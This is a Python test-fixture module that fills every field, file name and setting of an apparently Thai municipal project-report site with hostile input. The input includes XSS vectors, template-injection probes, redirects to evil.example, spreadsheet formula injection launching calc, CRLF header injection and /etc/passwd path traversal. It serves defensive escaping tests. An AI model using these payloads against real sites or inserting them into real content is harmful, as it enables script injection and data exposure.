"""Dumps and settings of somebody who wants to run a script on the site, in both flavours."""

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

from tests.laws.samples import SAMPLE, Sample

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></textarea></style></noscript><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onclick='alert(1)' style='position:fixed",
    "javascript:alert(1)",
    '[x](javascript:alert(1)) ![x](x" onerror="alert(1))',
    "{{7*7}}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*7}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=q><button formaction=javascript:alert(1)>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<!--<script>alert(1)-->",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\x3cscript\\x3e",
    "=cmd|'/C calc'!A0",
    "+SUM(1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "%0d%0aSet-Cookie:x=1 ../../../etc/passwd file:///etc/passwd",
)
SEEN = "alert"
"""Stands in the text of every page that shows one of most of them."""
FIELDS = (
    *("title", "agency", "contact", "rationale", "objectives", "targets", "node", "report"),
    *("problem", "obstacle", "step", "indicator", "unit", "kind", "stray"),
)


def code(number: int) -> str:
    return f"50010000-{number:04}"


def bent(payload: str, field: str, sample: Sample) -> Sample:
    """The page with the payload in one of the fields that ``Sample`` has."""
    text = f"{payload} กข"
    if field == "node":
        nodes = (f"ด้านที่ ๒ – {payload} : An Invented Green City |", *sample.nodes[1:])
        return replace(sample, nodes=nodes)
    if field == "report":
        (percent, day, _), *rest = sample.reports
        return replace(sample, reports=((percent, day, f"20/02/2566 : {text}"), *rest))
    if field in {"title", "agency", "contact", "rationale", "objectives", "targets"}:
        return replace(sample, **{field: text})  # type: ignore[arg-type]
    return sample


LATER: Mapping[str, tuple[str, str]] = {
    "problem": ("ปัญหาของโครงการ :ไม่มี", "ปัญหาของโครงการ :{} กข"),
    "obstacle": ("อุปสรรคของโครงการ :-", "อุปสรรคของโครงการ :{} กข"),
    "step": (":1. ขุดหลุม", ":1. {} ขุดหลุม"),
    "indicator": ("ตัวชี้วัด : จำนวน", "ตัวชี้วัด : {} จำนวน"),
    "unit": ("ค่าเป้าหมาย ต้น", "ค่าเป้าหมาย {}"),
    "kind": ("ตัวชี้วัดงานประจำ", "{}"),
    "stray": ("ผลการดำเนินงาน\n", "ผลการดำเนินงาน\n{} บรรทัดแปลก\n"),
}
"""Fields that are in the text alone."""


def page(payload: str, number: int, *, headed: bool) -> str:
    """One page with the payload in every field."""
    sample = replace(SAMPLE, code=code(number), unit="50010300")
    for field in FIELDS:
        sample = bent(payload, field, sample)
    text = sample.headed if headed else sample.stripped
    for before, after in LATER.values():
        text = text.replace(before, after.replace("{}", payload))
    return text


def write(folder: Path, payloads: tuple[str, ...]) -> None:
    """A content folder: each payload through both extractors, with a later copy, in all texts."""
    dumps = folder / "dumps"
    dumps.mkdir(parents=True)
    for number, payload in enumerate(payloads):
        headed = page(payload, number, headed=True)
        later = headed.replace("60.00 (2023-02-20)", "10.00 (2023-02-20)", 1)
        later = later.replace("ขุดหลุมแล้วเสร็จ", f"{payload} ขุดหลุม")
        (dumps / f"{number}-headed.txt").write_text(headed, encoding="utf-8")
        (dumps / f"{number}-later.txt").write_text(later, encoding="utf-8")
        stripped = page(payload, number, headed=False).replace("คลอง", f"คลองที่ {number}")
        (dumps / f"{number}-stripped.txt").write_text(stripped, encoding="utf-8")
    named = page(payloads[0], 9998, headed=True)
    (dumps / "<img src=x onerror=alert(1)>.txt").write_text(named, encoding="utf-8")
    write_settings(folder, payloads)


def write_settings(folder: Path, payloads: tuple[str, ...]) -> None:
    """Settings, lookups, a page of the owner's and the takedown list, hostile as well."""
    every = " ".join(payloads).replace("'''", "")
    (folder / "site.toml").write_text(
        f"name = '''{every}'''\ndescription = '''{every}'''\n"
        'base_url = "https://example.org/repo/"\n'
        'report_to = "https://example.org/?q=%22%3E%3Cscript%3E"\n',
        encoding="utf-8",
    )
    (folder / "withheld.toml").write_text(
        f"[[project]]\nkey = \"{code(9999)}\"\nreason = '''{every}'''\n", encoding="utf-8"
    )
    (folder / "lookups").mkdir()
    district = f"['50010000']\nname = '''{every}'''\nenglish = '''{every}'''\ntile = [1, 1]\n"
    (folder / "lookups" / "districts.toml").write_text(district, encoding="utf-8")
    (folder / "lookups" / "sections.toml").write_text(
        f"['03']\nname = '''{every}'''\n", encoding="utf-8"
    )
    (folder / "pages").mkdir()
    text = "\n\n".join(
        (f"# {payloads[0]}", "**กข**", *payloads, "[x]: javascript:alert(1)", "[y][x]")
    )
    (folder / "pages" / "about.th.md").write_text(text, encoding="utf-8")
